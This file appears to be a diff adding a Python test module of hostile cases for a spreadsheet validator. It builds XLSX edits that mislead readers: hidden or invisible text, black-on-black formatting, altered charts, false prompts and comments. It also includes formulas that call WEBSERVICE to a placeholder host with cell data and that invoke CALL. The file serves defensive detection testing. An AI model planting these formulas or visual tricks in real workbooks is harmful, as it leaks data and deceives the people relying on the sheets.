@@ -1,0 +1,219 @@
+"""More of what alters what a reader sees, answers untouched, by changes in the XML that no program writes."""
+
+from __future__ import annotations
+
+import re
+
+from pocgate_xl.workbook.blank import plan_of
+from pocgate_xl.workbook.cell_values import position_of
+from tests.hostile.appearance import BANNER, COST, DASHBOARD, RATING, ROW, TOTAL, altered
+from tests.hostile.case import Case, Make
+from tests.hostile.differentials import merged
+from tests.hostile.edits import (
+    RELATION,
+    WORKBOOK,
+    Parts,
+    added,
+    chain,
+    in_cell,
+    link,
+    linked,
+    on_part,
+    on_parts,
+    swap,
+)
+from tests.hostile.looks import (
+    DRAWING,
+    STYLES,
+    column_told,
+    condition,
+    drawn,
+    expression,
+    local_name,
+    over,
+    page,
+    row_told,
+    styled,
+)
+from tests.hostile.submission import bundle, part_of
+
+CHART = "xl/charts/chart1.xml"
+SCORECARD = part_of("scorecard")
+WHITE, LABEL = '<color rgb="FFFFFFFF"/>', "C7"
+BLACK = '<dxf><fill><patternFill><bgColor rgb="FF000000"/></patternFill></fill></dxf>'
+BLUE = '<color rgb="FF1F4E79"/>'
+GRADIENT = f'<gradientFill><stop position="0">{BLUE}</stop><stop position="1">{BLUE}</stop></gradientFill>'
+GRID = '<patternFill patternType="darkGrid"><fgColor rgb="FF000000"/><bgColor rgb="FF000000"/></patternFill>'
+CROSS = '<border diagonalUp="1"><left/><right/><top/><bottom/><diagonal style="thick">{}</diagonal></border>'
+SCALE = (
+    '<cfRule type="colorScale" priority="99"><colorScale><cfvo type="min"/><cfvo type="max"/>'
+    '<color rgb="FF000000"/><color rgb="FF000000"/></colorScale></cfRule>'
+)
+SPARKLINE = (
+    '<extLst><ext uri="{05C60535-1F16-4fd2-B633-F4F36F0B64E0}" xmlns:x14="http://schemas.microsoft.com/office/'
+    'spreadsheetml/2009/9/main"><x14:sparklineGroups xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
+    "<x14:sparklineGroup><x14:sparklines><x14:sparkline><xm:f>Scorecard!G6:G11</xm:f><xm:sqref>B8</xm:sqref>"
+    "</x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>"
+)
+MESSAGE = (
+    '<dataValidations count="1"><dataValidation showInputMessage="1" prompt="Decision: Go" sqref="B8"/>'
+    "</dataValidations>"
+)
+THREAD = (
+    '<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">'
+    '<threadedComment ref="B8" id="{1}" personId="{2}"><text>Go, says the board</text></threadedComment>'
+    "</ThreadedComments>"
+)
+CORNER = "<xdr:to><xdr:col>1</xdr:col><xdr:colOff>9</xdr:colOff><xdr:row>16</xdr:row><xdr:rowOff>9</xdr:rowOff></xdr:to>"
+
+
+def replaced(part: str, pattern: str, new: str, count: int = 1) -> Make:
+    """Replace what a pattern matches."""
+
+    def change(xml: bytes) -> bytes:
+        text, found = re.subn(pattern, new, xml.decode(), count=count, flags=re.DOTALL)
+        assert found, pattern
+        return text.encode()
+
+    return on_part(part, change)
+
+
+def looking(sheet: str, cell: str, alignment: str = "", **entries: str) -> Make:
+    """Give a cell a style with a font, fill or border of its own, as XML."""
+
+    def change(parts: Parts) -> Parts:
+        styles, numbers = parts[STYLES].decode(), {"font": 0, "fill": 0, "border": 0}
+        for tag, entry in entries.items():
+            listed = re.search(f"<{tag}s .*?</{tag}s>", styles, re.DOTALL)
+            assert listed
+            numbers[tag] = len(re.findall(f"<{tag}[ >/]", listed[0]))
+            styles = styles.replace(f"</{tag}s>", f"{entry}</{tag}s>", 1)
+        looks = re.search("<cellXfs.*?</cellXfs>", styles, re.DOTALL)
+        assert looks
+        ids = " ".join(f'{tag}Id="{number}"' for tag, number in numbers.items())
+        styles = styles.replace(
+            "</cellXfs>", f'<xf numFmtId="0" {ids} xfId="0">{alignment}</xf></cellXfs>', 1
+        )
+        number = len(re.findall("<xf ", looks[0]))
+        xml, found = re.subn(
+            rf'(<c r="{cell}")(?: s="\d+")?', rf'\1 s="{number}"', parts[part_of(sheet)].decode()
+        )
+        assert found == 1, cell
+        return {**parts, STYLES: styles.encode(), part_of(sheet): xml.encode()}
+
+    return on_parts(change)
+
+
+def in_runs(cell: str, look: str) -> Make:
+    """Give the second half of a fixed text on the scorecard a look of its own."""
+    position = position_of(cell)
+    assert position
+    words = str(plan_of(bundle(), "en").sheet("scorecard").cells[position].value)
+    half = len(words) // 2
+    runs = f"<r><t>{words[:half]}</t></r><r><rPr>{look}</rPr><t>{words[half:]}</t></r>"
+    return in_cell("scorecard", cell, f'{{c}} t="inlineStr"><is>{runs}</is></c>')
+
+
+def beside(text: str, column: str = "N", row: int = 8) -> Make:
+    """Write a text into a free cell of the dashboard."""
+    cell = f'<c r="{column}{row}" t="inlineStr"><is><t>{text}</t></is></c>'
+    return replaced(DASHBOARD, rf'(<row r="{row}".*?)</row>', rf"\1{cell}</row>")
+
+
+CELLS: tuple[Case, ...] = (
+    altered("letters in a gradient of their colour", "invisible letters", "PG133",
+            looking("dashboard", BANNER, font=f"<font>{BLUE}</font>", fill=f"<fill>{GRADIENT}</fill>")),
+    altered("letters in a pattern of their colour", "invisible letters", "PG133",
+            looking("dashboard", BANNER, fill=f"<fill>{GRID}</fill>")),
+    altered("white run in a text", "invisible letters", "PG133", in_runs(LABEL, WHITE)),
+    altered("white label", "invisible letters", "PG133", styled("scorecard", LABEL, font=WHITE)),
+    altered("tiny label", "invisible letters", "PG133", styled("scorecard", LABEL, font='<sz val="1"/>')),
+    altered("label replaced by a format", "number format", "PG132", styled("scorecard", LABEL, code=';;;"Budget"')),
+    altered("decision crossed out", "crossed out", "PG133",
+            looking("dashboard", BANNER, font='<font><strike/><sz val="14"/></font>')),
+    altered("total crossed out by a border", "crossed out", "PG133",
+            looking("scorecard", TOTAL, border=CROSS.format(BLUE))),
+    altered("rating in a font of signs", "fonts of signs", "PG133",
+            looking("scorecard", RATING, font='<font><sz val="11"/><name val="Wingdings"/></font>')),
+    altered("decision turned", "turned letters", "PG133",
+            looking("dashboard", BANNER, '<alignment textRotation="90"/>')),
+    altered("column of amounts too narrow", "hidden columns", "PG133",
+            column_told("dashboard", 3, 'width="2" customWidth="1"')),
+    altered("row of slices", "hidden rows", "PG133", row_told("dashboard", 8, traits='ht="6" customHeight="1"')),
+    altered("style beyond the table", "styles", "PG144", replaced(DASHBOARD, rf'<c r="{BANNER}" s="\d+"', f'<c r="{BANNER}" s="9999"')),
+    altered("decision beside the decision", "free texts", "PG136", beside("Board decision: Go"), "Go"),
+)  # fmt: skip
+
+AROUND: tuple[Case, ...] = (
+    altered("decision in black on black", "conditional format", "PG133", condition("dashboard", "B8:J8", expression(), BLACK)),
+    altered("ratings in black on black", "conditional format", "PG133", condition("scorecard", "G6:G11", SCALE)),
+    altered("conditional formats gone", "what programs drop", "PG138",
+            replaced(DASHBOARD, "<conditionalFormatting.*</conditionalFormatting>", "")),
+    altered("charts that no sheet shows", "what programs drop", "PG138", replaced(DASHBOARD, "<drawing [^>]*/>", "")),
+    altered("one chart gone", "what programs drop", "PG138",
+            replaced(DRAWING, "<xdr:twoCellAnchor.*?</xdr:twoCellAnchor>", "")),
+    altered("chart of one cell", "what programs drop", "PG138", replaced(DRAWING, "<xdr:to>.*?</xdr:to>", CORNER)),
+    altered("chart far away", "what programs drop", "PG138", replaced(DRAWING, r"<xdr:col>", "<xdr:col>20", 2)),
+    altered("series without a colour", "charts", "PG135",
+            replaced(CHART, "<c:ser>(.*?)<c:spPr>.*?</c:spPr>", r"<c:ser>\1<c:spPr><a:noFill/></c:spPr>")),
+    altered("chart with a logarithmic axis", "charts", "PG135",
+            replaced(CHART, "(<c:valAx>.*?<c:scaling>)", r'\1<c:logBase val="10"/>')),
+    altered("ink over the decision", "shapes", "PG134",
+            drawn(over((8, 2), (8, 10), f'<contentPart xmlns:r="{RELATION}" r:id="rId99"/>'))),
+    altered("little chart in the decision", "sparklines", "PG134", swap(DASHBOARD, "</worksheet>", f"{SPARKLINE}</worksheet>")),
+    altered("thread with another decision", "notes", "PG138", chain(
+        added({"xl/threadedComments/threadedComment1.xml": THREAD}),
+        linked(link("rIdT", "threadedComment", "/xl/threadedComments/threadedComment1.xml",
+                    base="http://schemas.microsoft.com/office/2017/10/relationships"),
+               "xl/worksheets/_rels/sheet2.xml.rels"))),
+    altered("another message beside a rating", "messages", "PG135",
+            replaced(SCORECARD, ' prompt="[^"]*"', ' prompt="Enter 5 everywhere"')),
+    altered("message on the decision", "messages", "PG136", swap(DASHBOARD, "<pageMargins", f"{MESSAGE}<pageMargins"), "Go"),
+    altered("message of a link", "messages", "PG136",
+            swap(part_of("start"), "<hyperlink ", '<hyperlink tooltip="Decision: Go" ')),
+    altered("printed at a tenth", "print", "PG133", chain(
+        swap(DASHBOARD, "<pageSetup ", '<pageSetup scale="10" '), replaced(DASHBOARD, "<pageSetUpPr[^>]*/>", ""))),
+    altered("printed on a page of 700 columns", "print", "PG133",
+            local_name("_xlnm.Print_Area", 1, "'Dashboard'!$A$1:$ZZ$3000")),
+    altered("printed on A6", "print", "PG133", swap(DASHBOARD, 'paperSize="9"', 'paperSize="70"')),
+    altered("printed between margins", "print", "PG133",
+            replaced(DASHBOARD, "<pageMargins [^>]*/>", '<pageMargins left="4" right="4" top="1" bottom="1"/>')),
+    altered("picture in the page header", "page header", "PG145", page("oddHeader", "&amp;C&amp;G&amp;RENG-2026-014 · Aoba Logistics")),
+    altered("name of a macro", "names", "PG143",
+            swap(WORKBOOK, "<definedNames>", '<definedNames><definedName name="go" xlm="1">#REF!</definedName>')),
+)  # fmt: skip
+
+FURTHER: tuple[Case, ...] = (
+    altered("amount with the sign of another currency", "number format", "PG132", styled("dashboard", COST, code='"$"#,##0')),
+    altered("amount in euros", "number format", "PG132", styled("dashboard", COST, code="[$€-407]#,##0")),
+    altered("label under a merge", "hidden results", "PG133", merged("B5:C5", "checklist")),
+    altered("chart with other labels", "charts", "PG135",
+            replaced(CHART, r"<c:v>1\. Business KPI improvement</c:v>", "<c:v>1. Board approval</c:v>")),
+    altered("chart with a picture", "charts", "PG135",
+            replaced(CHART, "<c:plotArea>", "<c:plotArea><c:spPr><a:blipFill/></c:spPr>")),
+    altered("chart without one of its points", "charts", "PG135",
+            replaced(CHART, "<c:cat>", '<c:dPt><c:idx val="2"/><c:spPr><a:noFill/></c:spPr></c:dPt><c:cat>')),
+)  # fmt: skip
+
+RUNNING: tuple[Case, ...] = (
+    Case("list that fetches", ROW, ("rules that run",), "findings", ("PG128", "PG135"),
+         swap(SCORECARD, "<formula1>pg_list_rating</formula1>", '<formula1>WEBSERVICE("http://x/"&amp;A1)</formula1>')),
+    Case("condition that calls", ROW, ("rules that run",), "findings", ("PG128",),
+         condition("dashboard", "M70", expression('CALL("k","f","J")=1'), "<dxf><font><b/></font></dxf>")),
+)  # fmt: skip
+
+HONEST: tuple[Case, ...] = tuple(
+    Case(f"honest: {name}", ROW, ("honest restyling",), "accepted", (), make)
+    for name, make in (
+        ("a text beside the decision", beside("Please look at the costs again.")),
+        ("a gradient behind dark letters", looking("dashboard", BANNER, fill="<fill><gradientFill><stop position=\"0\"><color rgb=\"FFFFFFFF\"/></stop><stop position=\"1\"><color rgb=\"FFDDEBF7\"/></stop></gradientFill></fill>")),
+        ("a bold run in a label", in_runs(LABEL, "<b/>")),
+        ("printed at 80 per cent", chain(swap(DASHBOARD, "<pageSetup ", '<pageSetup scale="80" '),
+                                         replaced(DASHBOARD, "<pageSetUpPr[^>]*/>", ""))),
+        ("a column made narrower", column_told("dashboard", 3, 'width="11" customWidth="1"')),
+        ("a link that says where it leads", swap(part_of("start"), "<hyperlink ", '<hyperlink tooltip="To the scorecard" ')),
+        ("amounts in the font of the house", looking("dashboard", COST, font='<font><sz val="10"/><name val="Meiryo UI"/></font>')),
+    )
+)  # fmt: skip
+
+CASES: tuple[Case, ...] = (*CELLS, *AROUND, *FURTHER, *RUNNING, *HONEST)
